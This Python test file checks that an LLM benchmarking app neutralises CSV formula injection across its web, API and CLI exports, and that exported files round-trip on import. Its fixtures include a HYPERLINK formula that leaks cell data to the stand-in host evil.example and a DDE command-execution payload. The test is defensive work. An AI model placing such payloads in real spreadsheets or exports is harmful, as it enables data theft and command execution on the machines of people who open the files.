"""CSV formula injection (OWASP): every CSV we write neutralises cells that start like a
formula, and our own task CSV imports back to exactly what was exported."""

import csv
import io
import re
from pathlib import Path
from urllib.parse import quote

import pytest
from click.testing import CliRunner

from app.cli import main
from app.datasets.exporter import export_text
from app.datasets.importer import import_tasks
from app.db.connection import database
from app.db.models import FAILED
from app.db.models import HUMAN
from app.db.models import LEFT
from app.db.models import Rating
from app.db.models import Task
from app.db.models import Vote
from app.files.csvcells import neutralise
from app.files.csvcells import restore
from app.ratings import labels
from app.ratings.store import save_rating
from tests.conftest import TEST_KEY_B64
from tests.factories import add_item
from tests.factories import make_run

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (EVIL, "'" + EVIL),
        ("+1+1", "'+1+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("\uff1dcmd", "'\uff1dcmd"),
        ("'=already", "''=already"),
        ("plain answer", "plain answer"),
        ("it's = fine", "it's = fine"),
        ("", ""),
    ],
)
def test_a_formula_cell_gets_a_quote_and_comes_back_unchanged(text, cell):
    assert neutralise(text) == cell and restore(cell) == text


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_the_results_csvs_neutralise_every_text_cell(app, client):
    run, (t,) = make_run("evil", targets=(("+provider", "@model"),))
    add_item(run, t, "=task", question=EVIL, score=50.0, answer="-1+1", evaluation_reason="@x")
    add_item(run, t, "t2", status=FAILED, error_stage=None, error_msg="=cmd|' /C calc'!A0")
    detailed = cells(client.get("/runs/evil/results.csv").get_data(as_text=True))
    averages = cells(client.get("/runs/evil/averages.csv").get_data(as_text=True))
    for cell in detailed + averages:
        assert not cell or cell[0] not in "=+-@\t\r", cell
    for value in ("'+provider", "'@model", "'=task", "'-1+1", "'@x", "'" + EVIL, "'=cmd"):
        assert any(c.startswith(value) for c in detailed), value


def test_the_task_csv_export_neutralises_and_imports_back_the_same(app):
    questions = {"f1": EVIL, "f2": "-minus first", "f3": "'=quoted already", "f4": "plain"}
    for key, question in questions.items():
        Task.create(task_id=key, category="=cat", question=question)
    text = export_text("csv")
    for cell in cells(text):
        assert not cell or cell[0] not in "=+-@\t\r", cell
    Task.delete().execute()
    import_tasks(text.encode(), fmt="csv")
    got = {t.task_id: (t.question, t.category) for t in Task.select()}
    # The export doubles literal braces in templates; the question comes back as it was.
    assert got == {key: (question, "=cat") for key, question in questions.items()}


FORMULA_STARTS = "=+-@\t\r"


def _evil_data():
    """A run, a rating, a vote and a task whose every text field starts like a formula."""
    run, (a, b) = make_run("=r1", targets=(("=prov", "+m1"), ("@prov", "-m2")), name="=name")
    a.label, b.label = "@label-a", "=label-b"
    a.save()
    b.save()
    common = {"category": "\tcat", "difficulty": "\rhard", "question": EVIL}
    left = add_item(run, a, "=task", score=80.0, answer="-1+1", evaluation_reason="@why", **common)
    right = add_item(run, b, "=task", score=20.0, answer="+ans", evaluation_reason="=why", **common)
    add_item(run, a, "+t2", status=FAILED, error_stage=None, error_msg="=cmd|' /C calc'!A0")
    save_rating(left, 4, ["=tag", "+tag2"], "@notes")
    save_rating(right, 2, ["-tag"], "=notes")
    Vote.create(
        left_item=left,
        right_item=right,
        item_low=left.id,
        item_high=right.id,
        left_target=a,
        right_target=b,
        task_key="=task",
        winner=LEFT,
        winner_target=a,
        source=HUMAN,
        voter=HUMAN,
    )
    Task.create(task_id="=t", category="+cat", subcategory="-sub", question=EVIL, good="@good")
    return run


def _csv_responses(app, client, run_id):
    """{url: text} of every GET route that answers CSV, as it is or with ?format=csv."""
    found = {}
    # A route that fails on these made-up arguments is a 500 here, not CSV (and not this test's).
    app.config["PROPAGATE_EXCEPTIONS"] = False
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.rule.startswith("/static/"):
            continue
        path = rule.build({a: ("1" if a != "run_id" else run_id) for a in rule.arguments})[1]
        for url in (path, path + "?format=csv"):
            response = client.get(url)
            # Read every body: a streamed one left unread would outlive its request.
            text = response.get_data(as_text=True)
            response.close()
            if response.mimetype == "text/csv":
                found[url] = text
                break
    return found


def _formula_cells(text):
    return [cell for cell in cells(text) if cell and cell[0] in FORMULA_STARTS]


def test_every_csv_route_and_cli_file_neutralises_every_cell(app, client, tmp_path):
    run = _evil_data()
    found = _csv_responses(app, client, run.run_id)
    for kind in ("CSV", "CSV_DETAILED"):
        body = {"format": "CSV", "includeDetailed": kind == "CSV_DETAILED"}
        response = client.post(f"/api/runs/{quote(run.run_id)}/export", json=body)
        assert response.mimetype == "text/csv"
        found[f"POST export {kind}"] = response.get_data(as_text=True)
    database.close()
    env = {"LLMBENCH_DB": app.config["DB"], "LLMBENCH_MASTER_KEY_BASE64": TEST_KEY_B64}
    out, tasks = tmp_path / "out", tmp_path / "tasks.csv"
    for args in (["report", run.run_id, "--out", out], ["export", "--format", "csv", "-o", tasks]):
        result = CliRunner().invoke(main, [str(a) for a in args], env=env)
        assert result.exit_code == 0, result.output
    found["llmbench report: results.csv"] = (out / "results.csv").read_text()
    found["llmbench export --format csv"] = tasks.read_text()
    # Discovery found the CSV routes we know of (a new one is walked without being listed).
    assert {
        "/runs/=r1/results.csv",
        "/runs/=r1/averages.csv",
        "/runs/=r1/report.csv",
        "/api/ratings?format=csv",
        "/api/pairwise/votes?format=csv",
        "/api/tasks/export?format=csv",
    } <= set(found), sorted(found)
    for name, text in found.items():
        assert len(cells(text)) > 10, name
        assert _formula_cells(text) == [], name
    written = "".join(found.values())
    for value in ("=prov", "@label-a", "=task", "\tcat", "@notes", "=tag", "-1+1"):
        assert f"'{value}" in written, value


def _labels():
    ratings = {(r.item_id, r.rating, tuple(r.tags), r.notes) for r in Rating.select()}
    votes = {(v.task_key, v.left_item_id, v.right_item_id, v.winner) for v in Vote.select()}
    return ratings, votes


def test_our_own_ratings_and_votes_csv_import_back_unquoted(app, client):
    _evil_data()
    before = _labels()
    ratings = client.get("/api/ratings?format=csv").get_data(as_text=True)
    votes = client.get("/api/pairwise/votes?format=csv").get_data(as_text=True)
    Rating.delete().execute()
    Vote.delete().execute()
    labels.import_ratings(ratings, "csv")
    labels.import_votes(votes, "csv")
    assert _labels() == before


def test_only_the_safe_writer_builds_csv_writers():
    app_dir = Path(__file__).parent.parent / "app"
    users = {
        str(path.relative_to(app_dir))
        for path in app_dir.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    }
    assert users == {"files/csvcells.py"}
